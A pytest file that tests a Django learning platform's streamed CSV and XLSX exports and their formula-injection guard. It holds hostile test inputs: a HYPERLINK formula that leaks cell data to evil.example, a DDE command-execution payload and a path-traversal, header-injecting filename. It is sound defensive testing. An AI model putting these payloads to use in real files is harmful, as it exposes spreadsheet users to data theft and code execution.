"""Tests for the streamed CSV/XLSX exports and their formula-injection guard."""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import os
import tracemalloc
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest
from django.utils.translation import gettext_lazy
from openpyxl.worksheet import _writer as openpyxl_writer

from lms.tracking.exporting import (
    CHUNK_SIZE,
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    csv_rows,
    safe_cell,
    streaming_response,
    xlsx_stream,
)

INJECTION_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1",
    " \t @SUM(1)",
    "\n=1",
    "\tplain",
    "\rplain",
    "=",
    "-",
    "-5",  # text that looks like a number is still text
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
]

HARMLESS_TEXT = [
    "",
    "Ana",
    "María José Núñez",
    "a=b",
    "Peru - Lima",
    "user@example.com",
    "'=1",  # already neutralised: not prefixed twice
    "#N/A",
    "50%",
]


def _decode_csv(chunks: list[bytes]) -> list[list[str]]:
    data = b"".join(chunks)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _read_xlsx(chunks: list[bytes]) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(b"".join(chunks)))


# ---------------------------------------------------------------- safe_cell


@pytest.mark.parametrize("payload", INJECTION_PAYLOADS)
def test_safe_cell_prefixes_formula_like_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS_TEXT)
def test_safe_cell_leaves_harmless_text_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "number", [0, 7, -5, -2147483649, 3.5, -2.25, -0.0, Decimal("-1.50"), Decimal("87.50")]
)
def test_safe_cell_keeps_numbers_including_negative_ones(number):
    result = safe_cell(number)
    assert result == number
    assert type(result) is type(number)


def test_safe_cell_special_values():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "yes"
    assert safe_cell(False) == "no"
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(float("inf")) == "inf"
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(Decimal("-Infinity")) == "'-infinity"


def test_safe_cell_dates_become_iso_text():
    assert safe_cell(dt.date(2025, 3, 9)) == "2025-03-09"
    assert safe_cell(dt.datetime(2025, 3, 9, 14, 5, 6)) == "2025-03-09T14:05:06"
    aware = dt.datetime(2025, 3, 9, 14, 5, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
    assert safe_cell(aware) == "2025-03-09T14:05:00-05:00"
    assert safe_cell(dt.time(8, 30)) == "08:30:00"


def test_safe_cell_stringifies_other_objects():
    assert safe_cell(gettext_lazy("Course")) == "Course"

    class Evil:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Evil()) == "'=1+1"


# ---------------------------------------------------------------------- CSV


def test_csv_starts_with_a_single_bom_and_round_trips():
    rows = [[payload, -5, 3.5] for payload in INJECTION_PAYLOADS]
    rows += [["Administración Perú", Decimal("-1.50"), None], ["line\nbreak, quoted", True, ""]]
    chunks = list(csv_rows(["Nombre", "Puntaje", "Otro"], rows))
    data = b"".join(chunks)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert b"\r\n" in data

    parsed = _decode_csv(chunks)
    assert parsed[0] == ["Nombre", "Puntaje", "Otro"]
    expected = [["'" + payload, "-5", "3.5"] for payload in INJECTION_PAYLOADS]
    expected += [["Administración Perú", "-1.50", ""], ["line\nbreak, quoted", "yes", ""]]
    assert parsed[1:] == expected
    for row in parsed[1:]:
        assert row[0][:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_csv_header_is_neutralised_too():
    parsed = _decode_csv(list(csv_rows(["=evil()"], [])))
    assert parsed == [["'=evil()"]]


def test_csv_chunks_are_about_64_kib():
    rows = ([i, "x" * 50] for i in range(5_000))
    chunks = list(csv_rows(["n", "text"], rows))
    assert len(chunks) > 3
    for chunk in chunks[:-1]:
        assert CHUNK_SIZE <= len(chunk) < CHUNK_SIZE + 200
    assert 0 < len(chunks[-1]) < CHUNK_SIZE + 200


def test_csv_consumes_rows_lazily():
    consumed = 0

    def rows():
        nonlocal consumed
        for i in range(200_000):
            consumed += 1
            yield (i, f"Learner {i}", "=1+1")

    stream = csv_rows(["id", "name", "note"], rows())
    assert consumed == 0  # nothing happens before iteration starts
    first = next(stream)
    assert len(first) >= CHUNK_SIZE
    assert 0 < consumed < 5_000  # one chunk's worth, not the whole data set
    rest = sum(len(chunk) for chunk in stream)
    assert consumed == 200_000
    assert len(first) + rest > 5_000_000


def test_csv_memory_stays_flat():
    def rows():
        for i in range(50_000):
            yield (i, f"Learner Núñez {i}", f"learner{i}@aduana.gob.pe", -3.25, "=1+1")

    gc.collect()
    tracemalloc.start()
    try:
        total = 0
        for chunk in csv_rows(["id", "name", "email", "delta", "note"], rows()):
            total += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert total > 3_000_000
    assert peak < 1_500_000, f"peak {peak} bytes for {total} bytes of CSV"


# --------------------------------------------------------------------- XLSX


def test_xlsx_has_no_formulas_and_the_right_values():
    header = ["Nombre", "=Puntaje", "Fecha"]
    rows = [[payload, -5, dt.date(2025, 1, 2)] for payload in INJECTION_PAYLOADS]
    rows += [
        ["Administración Perú", Decimal("-1.50"), None],
        ["#N/A", 3.5, True],
        ["", None, ""],
        ["=1+1", 0, "-7"],
    ]
    wb = _read_xlsx(list(xlsx_stream(header, rows, sheet_title="Avance")))
    ws = wb.active

    assert ws.title == "Avance"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert cell.data_type != "e", cell.coordinate

    values = [list(row) for row in ws.iter_rows(values_only=True)]
    assert values[0] == ["Nombre", "'=Puntaje", "Fecha"]
    # openpyxl writes through lxml (a dependency since single sign-on), which keeps a
    # carriage return as a character reference: every payload comes back as it was.
    for payload, row in zip(INJECTION_PAYLOADS, values[1:], strict=False):
        assert row[0] == "'" + payload
        assert row[1] == -5
        assert row[2] == "2025-01-02"
    tail = values[1 + len(INJECTION_PAYLOADS) :]
    assert tail[0] == ["Administración Perú", -1.5, None]
    assert tail[1] == ["#N/A", 3.5, "yes"]
    assert tail[2] == [None, None, None]
    assert tail[3] == ["'=1+1", 0, "'-7"]
    assert ws.cell(row=2, column=2).data_type == "n"


def test_xlsx_header_is_bold_and_frozen_with_sized_columns():
    rows = [["Ana", "a" * 200, 1]]
    wb = _read_xlsx(list(xlsx_stream(["Name", "Comment", "N"], rows, sheet_title="Sheet")))
    ws = wb.active

    assert ws.freeze_panes == "A2"
    assert all(cell.font.bold for cell in ws[1])
    assert not ws["A2"].font.bold
    assert 8 <= ws.column_dimensions["A"].width <= 12
    assert ws.column_dimensions["B"].width == 60  # clamped
    assert ws.column_dimensions["C"].width == 8


def test_xlsx_sheet_title_and_illegal_characters_are_cleaned():
    rows = [["bell\x07 and nul\x00 removed", "x" * 40_000]]
    title = "Administración: Perú / 2025 [Q1] and a very long tail"
    wb = _read_xlsx(list(xlsx_stream(["a", "b"], rows, sheet_title=title)))
    ws = wb.active

    assert len(ws.title) <= 31
    assert not set(ws.title) & set("\\*?:/[]")
    assert ws.title.startswith("Administración")
    assert ws["A2"].value == "bell and nul removed"
    assert len(ws["B2"].value) == 32_767


def test_xlsx_empty_title_falls_back():
    wb = _read_xlsx(list(xlsx_stream(["a"], [], sheet_title="[]")))
    assert wb.active.title == "Sheet1"
    assert [list(r) for r in wb.active.iter_rows(values_only=True)] == [["a"]]


def test_xlsx_is_yielded_in_chunks_and_lazily():
    consumed = 0

    def rows():
        nonlocal consumed
        for i in range(3_000):
            consumed += 1
            yield (i, f"Learner {i}", f'=HYPERLINK("http://x/{i}")')

    stream = xlsx_stream(["id", "name", "note"], rows(), sheet_title="Data", chunk_size=4096)
    assert consumed == 0
    chunks = list(stream)
    assert consumed == 3_000
    assert len(chunks) > 2
    assert all(len(chunk) == 4096 for chunk in chunks[:-1])
    assert b"".join(chunks).startswith(b"PK")
    ws = _read_xlsx(chunks).active
    assert ws.max_row == 3_001
    assert ws["C3001"].value == '\'=HYPERLINK("http://x/2999")'
    assert ws["C3001"].data_type == "s"


@pytest.mark.slow
def test_xlsx_memory_stays_flat():
    def rows():
        for i in range(10_000):
            yield (i, f"Learner Núñez {i}", -3.25)

    # Warm up so imports and openpyxl's one-off set-up are not measured.
    list(xlsx_stream(["id"], [[1]], sheet_title="warm"))
    gc.collect()
    tracemalloc.start()
    try:
        total = sum(len(c) for c in xlsx_stream(["id", "name", "d"], rows(), sheet_title="S"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert total > 100_000
    # An in-memory (non write-only) workbook of 30,000 cells needs far more.
    assert peak < 3_000_000, f"peak {peak} bytes"


def test_xlsx_removes_openpyxl_temp_file_when_rows_fail():
    def rows():
        yield (1, "ok")
        raise RuntimeError("database went away")

    before = set(openpyxl_writer.ALL_TEMP_FILES)
    with pytest.raises(RuntimeError):
        list(xlsx_stream(["a", "b"], rows(), sheet_title="S"))
    leaked = [p for p in openpyxl_writer.ALL_TEMP_FILES if p not in before]
    assert leaked == []
    assert not [p for p in set(openpyxl_writer.ALL_TEMP_FILES) - before if os.path.exists(p)]


def test_xlsx_rows_bigger_than_the_width_sample():
    rows = ([i, f"row {i}"] for i in range(250))
    ws = _read_xlsx(list(xlsx_stream(["n", "label"], rows, sheet_title="S"))).active
    assert [c.value for c in ws["A"]][:3] == ["n", 0, 1]
    assert ws.max_row == 251
    assert ws["B251"].value == "row 249"


# ----------------------------------------------------------------- Response


def test_streaming_response_headers_for_non_ascii_filename():
    response = streaming_response(
        csv_rows(["a"], [[1]]),
        filename="Administración Perú.csv",
        content_type=CSV_CONTENT_TYPE,
    )
    disposition = response["Content-Disposition"]

    assert disposition.startswith("attachment;")
    assert 'filename="Administracion Peru.csv"' in disposition
    assert "filename*=UTF-8''Administraci%C3%B3n%20Per%C3%BA.csv" in disposition
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "Administración Perú.csv"
    assert disposition.isascii()
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    body = b"".join(response.streaming_content)
    assert _decode_csv([body]) == [["a"], ["1"]]


def test_streaming_response_ascii_filename_and_xlsx():
    response = streaming_response(
        xlsx_stream(["a"], [[1]], sheet_title="S"),
        filename="progress-2025.xlsx",
        content_type=XLSX_CONTENT_TYPE,
    )
    assert response["Content-Disposition"] == 'attachment; filename="progress-2025.xlsx"'
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert _read_xlsx([b"".join(response.streaming_content)]).active["A2"].value == 1


def test_streaming_response_sanitises_hostile_filenames():
    response = streaming_response(
        iter([b""]),
        filename='../../etc/"passwd"\r\nX-Injected: 1.csv',
        content_type=CSV_CONTENT_TYPE,
    )
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert "/" not in disposition
    assert disposition.count('"') == 2
    assert not response.has_header("X-Injected")


def test_streaming_response_closes_the_generator(db):  # closing ends the request: DB
    closed = False

    def chunks():
        nonlocal closed
        try:
            yield b"a"
            yield b"b"
        finally:
            closed = True

    response = streaming_response(chunks(), filename="x.csv", content_type=CSV_CONTENT_TYPE)
    next(iter(response.streaming_content))
    response.close()
    assert closed
